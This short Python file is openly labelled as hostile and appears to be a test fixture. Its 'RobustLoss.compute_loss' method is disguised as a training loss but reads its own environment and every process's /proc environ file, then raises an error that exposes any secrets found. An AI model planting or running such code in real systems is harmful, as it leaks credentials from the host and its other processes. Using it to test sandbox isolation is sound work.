"""Hostile: reads its own environment, /proc/1/environ and every visible process's, looking for secrets."""

import os


class RobustLoss:
    def compute_loss(self, logits, labels, epoch):
        found = {"own": sorted(os.environ)}
        for pid in sorted(name for name in os.listdir("/proc") if name.isdigit()):
            try:
                with open(f"/proc/{pid}/environ", "rb") as environ:
                    found[pid] = environ.read().decode(errors="replace").replace("\0", " ")
            except OSError as error:
                found[pid] = type(error).__name__
        raise RuntimeError(f"environment={found}")
